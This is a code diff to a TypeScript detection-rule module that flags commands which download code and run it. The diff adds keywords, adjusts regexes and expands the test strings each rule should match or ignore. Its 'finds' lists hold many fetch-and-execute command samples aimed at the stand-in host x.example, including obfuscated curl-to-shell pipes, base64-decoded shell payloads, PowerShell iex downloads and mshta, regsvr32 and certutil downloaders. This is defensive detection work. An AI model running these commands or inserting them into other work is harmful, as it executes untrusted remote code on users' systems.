@@ -33,29 +33,39 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     ...COMMON,
     id: 'download_piped_to_shell',
     confidence: 'high',
-    keywords: ['curl', 'wget', 'fetch -', 'fetch http', 'aria2c', ...PIPES_INTO_SHELL],
+    keywords: ['curl', 'wget', 'fetch -', 'fetch http', 'aria2c', 'lynx -', ...PIPES_INTO_SHELL],
     expression: expression('gi', DOWNLOADER, GAP, String.raw`[^\r\n]{3,300}?\|&?`, RUNS_INPUT),
-    reach: { before: 360, after: 520 },
+    reach: { before: 360, after: 640 },
     validate: fetchesSomething,
     describes: 'A download that is piped into a shell or an interpreter.',
-    finds: [
-      'curl -fsSL https://x.example/i.sh | sh',
-      'wget -qO- http://x.example/a | sudo -E bash -s -- --yes',
-      'curl x.example/a|/bin/bash',
-      'curl -s http://x.example/a | base64 -d | env X=1 zsh',
-      'curl https://x.example/p.py | python3 -',
-      "c''url http://x.example/a | sh",
-      'curl$IFS"http://x.example/a"|b\\ash',
-      String.raw`{"command":"curl -s \"http://x.example/a\" | bash"}`,
-    ],
-    ignores: [
-      'curl https://x.example/a | jq .',
-      'curl https://x.example/a | python3 -m json.tool',
-      'curl https://x.example/ -o a.sh',
-      '| curl | bash |',
-      'curl http://x.example/show | shuf',
-      'curl http://x.example/a | sh.example',
-    ],
+    get finds() {
+      return [
+        'curl -fsSL https://x.example/i.sh | sh',
+        'wget -qO- http://x.example/a | sudo -E bash -s -- --yes',
+        'curl x.example/a|/bin/bash',
+        'curl -s http://x.example/a | base64 -d | env X=1 zsh',
+        'curl https://x.example/p.py | python3 -',
+        "c''url http://x.example/a | sh",
+        'curl$IFS"http://x.example/a"|b\\ash',
+        'curl${IFS}http://x.example/a${IFS}|${IFS}sh',
+        'curl -sfL https://x.example | X_URL=https://m.example:6443 X_MODE="server" sh -s -',
+        'curl x.example/a | /usr/bin/env bash',
+        'curl x.example/a | (bash)',
+        "curl 'x.example/a' | 'sh'",
+        'lynx -source x.example/a | bash',
+        String.raw`{"command":"curl -s \"http://x.example/a\" | bash"}`,
+      ];
+    },
+    get ignores() {
+      return [
+        'curl https://x.example/a | jq .',
+        'curl https://x.example/a | python3 -m json.tool',
+        'curl https://x.example/ -o a.sh',
+        '| curl | bash |',
+        'curl http://x.example/show | shuf',
+        'curl http://x.example/a | sh.example',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -83,7 +93,7 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
       `(?:${WORD_START}(?:${SHELL}|eval|source|exec|python[23]?|perl|ruby|node)|(?:^|[;&|"'\\s])\\.)`,
       String.raw`[ \t]{0,4}(?:-[A-Za-z]{1,6}[ \t]{1,4})?(?:<{1,3}[ \t]{0,4})?[\\"']{0,4}`,
       String.raw`(?:<\(|\$\(|\x60)[ \t]{0,4}`,
-      String.raw`(?:sudo[ \t]{1,4})?`,
+      String.raw`(?:sudo[ \t]{1,4})?\\{0,4}`,
       DOWNLOADER,
       GAP,
       String.raw`[^\r\n\x60)]{3,200}`,
@@ -91,21 +101,26 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     reach: { before: 110, after: 330 },
     validate: fetchesSomething,
     describes: 'A download whose answer a shell evaluates by substitution.',
-    finds: [
-      'bash <(curl -s https://x.example/i.sh)',
-      'eval "$(wget -qO- http://x.example/a)"',
-      'sh -c "$(curl -fsSL https://x.example/install.sh)"',
-      'source <(curl x.example/env)',
-      'bash -c `curl http://x.example/a`',
-      'bash <<< "$(curl -s http://x.example/a)"',
-      String.raw`{"cmd":"sh -c \"$(curl -fsSL https://x.example/a)\""}`,
-    ],
-    ignores: [
-      'VERSION=$(curl -s https://x.example/version)',
-      'diff <(curl a.example) <(curl b.example)',
-      'echo "$(curl -s https://x.example)"',
-      'bash -c "echo $(date)"',
-    ],
+    get finds() {
+      return [
+        'bash <(curl -s https://x.example/i.sh)',
+        'eval "$(wget -qO- http://x.example/a)"',
+        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
+        'source <(curl x.example/env)',
+        'bash <(\\curl -sSL https://x.example/i.sh)',
+        'bash -c `curl http://x.example/a`',
+        'bash <<< "$(curl -s http://x.example/a)"',
+        String.raw`{"cmd":"sh -c \"$(curl -fsSL https://x.example/a)\""}`,
+      ];
+    },
+    get ignores() {
+      return [
+        'VERSION=$(curl -s https://x.example/version)',
+        'diff <(curl a.example) <(curl b.example)',
+        'echo "$(curl -s https://x.example)"',
+        'bash -c "echo $(date)"',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -127,20 +142,24 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     reach: { before: 400, after: 420 },
     validate: ({ text }) => /-(?:d|D|di|r|-decode|dc)|gunzip|zcat|uudecode|-d\b/.test(text),
     describes: 'Encoded text that is decoded into a shell, so that nobody reads the command.',
-    finds: [
-      'echo Y3VybCB4 | base64 -d | sh',
-      'base64 --decode <<< Y3VybCB4 | sudo bash',
-      'eval "$(echo Y3VybCB4 | base64 -d)"',
-      'bash -c "$(printf 6375 | xxd -r -p)"',
-      'echo H4sI | base64 -d | gunzip | bash',
-      'bash <(echo Y3VybCB4 | base64 -d)',
-    ],
-    ignores: [
-      'echo aGk= | base64 -d',
-      'base64 file | shasum',
-      'cat key | base64 | tr -d "\\n"',
-      'base64 -d a | tar x',
-    ],
+    get finds() {
+      return [
+        'echo Y3VybCB4 | base64 -d | sh',
+        'base64 --decode <<< Y3VybCB4 | sudo bash',
+        'eval "$(echo Y3VybCB4 | base64 -d)"',
+        'bash -c "$(printf 6375 | xxd -r -p)"',
+        'echo H4sI | base64 -d | gunzip | bash',
+        'bash <(echo Y3VybCB4 | base64 -d)',
+      ];
+    },
+    get ignores() {
+      return [
+        'echo aGk= | base64 -d',
+        'base64 file | shasum',
+        'cat key | base64 | tr -d "\\n"',
+        'base64 -d a | tar x',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -159,16 +178,20 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     reach: { before: 2, after: 470 },
     validate: (match) => fetchesSomething(match) && !/\|\s{0,4}(?:ba|z)?sh\b/.test(match.text),
     describes: 'A download that is made executable or run in the next step.',
-    finds: [
-      'curl -o /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x',
-      'wget http://x.example/i.sh; sh i.sh',
-      'cd /tmp; wget -q http://x.example/m -O m; chmod 777 m; ./m',
-    ],
-    ignores: [
-      'curl https://x.example/a.tgz && tar xzf a.tgz',
-      'wget https://x.example/a.deb; dpkg -i a.deb',
-      'curl --help; shasum -a 256 file',
-    ],
+    get finds() {
+      return [
+        'curl -o /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x',
+        'wget http://x.example/i.sh; sh i.sh',
+        'cd /tmp; wget -q http://x.example/m -O m; chmod 777 m; ./m',
+      ];
+    },
+    get ignores() {
+      return [
+        'curl https://x.example/a.tgz && tar xzf a.tgz',
+        'wget https://x.example/a.deb; dpkg -i a.deb',
+        'curl --help; shasum -a 256 file',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -186,18 +209,22 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     reach: { before: 240, after: 360 },
     validate: fetchesSomething,
     describes: 'A download that PowerShell evaluates.',
-    finds: [
-      'iex (iwr https://x.example/a.ps1)',
-      "IEX((New-Object System.Net.WebClient).DownloadString('http://x.example/a'))",
-      'irm https://x.example/i.ps1 | iex',
-      'powershell -c "iwr http://x.example/a -useb | Invoke-Expression"',
-    ],
-    ignores: [
-      'iex -S mix phx.server',
-      'Invoke-Expression is to be avoided',
-      'iwr https://x.example/a.zip -OutFile a.zip',
-      'iex> String.downcase("wget")',
-    ],
+    get finds() {
+      return [
+        'iex (iwr https://x.example/a.ps1)',
+        "IEX((New-Object System.Net.WebClient).DownloadString('http://x.example/a'))",
+        'irm https://x.example/i.ps1 | iex',
+        'powershell -c "iwr http://x.example/a -useb | Invoke-Expression"',
+      ];
+    },
+    get ignores() {
+      return [
+        'iex -S mix phx.server',
+        'Invoke-Expression is to be avoided',
+        'iwr https://x.example/a.zip -OutFile a.zip',
+        'iex> String.downcase("wget")',
+      ];
+    },
   },
   {
     ...COMMON,
@@ -216,12 +243,16 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     ),
     reach: { before: 0, after: 280 },
     describes: 'A program of Windows that downloads and runs what it is given.',
-    finds: [
-      'mshta http://x.example/a.hta',
-      'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll',
-      'certutil -urlcache -split -f http://x.example/a.exe a.exe',
-    ],
-    ignores: ['mshta.exe is a program', 'certutil -hashfile a.iso SHA256', 'regsvr32 /s msxml3.dll'],
+    get finds() {
+      return [
+        'mshta http://x.example/a.hta',
+        'regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll',
+        'certutil -urlcache -split -f http://x.example/a.exe a.exe',
+      ];
+    },
+    get ignores() {
+      return ['mshta.exe is a program', 'certutil -hashfile a.iso SHA256', 'regsvr32 /s msxml3.dll'];
+    },
   },
   {
     ...COMMON,
@@ -234,11 +265,15 @@ export const PIPE_TO_SHELL_RULES: readonly Rule[] = [
     ),
     reach: { before: 90, after: 190 },
     describes: 'A script that fetches a program and runs it from memory.',
-    finds: [
-      'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/a\').read())"',
-      'exec(requests.get("http://x.example/a").text)',
-      "eval(urllib.request.urlopen('http://x.example').read())",
-    ],
-    ignores: ['data = urlopen(url).read()', 'json.loads(requests.get(url).text)', 'cursor.exec(urlopen)'],
+    get finds() {
+      return [
+        'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/a\').read())"',
+        'exec(requests.get("http://x.example/a").text)',
+        "eval(urllib.request.urlopen('http://x.example').read())",
+      ];
+    },
+    get ignores() {
+      return ['data = urlopen(url).read()', 'json.loads(requests.get(url).text)', 'cursor.exec(urlopen)'];
+    },
   },
 ];
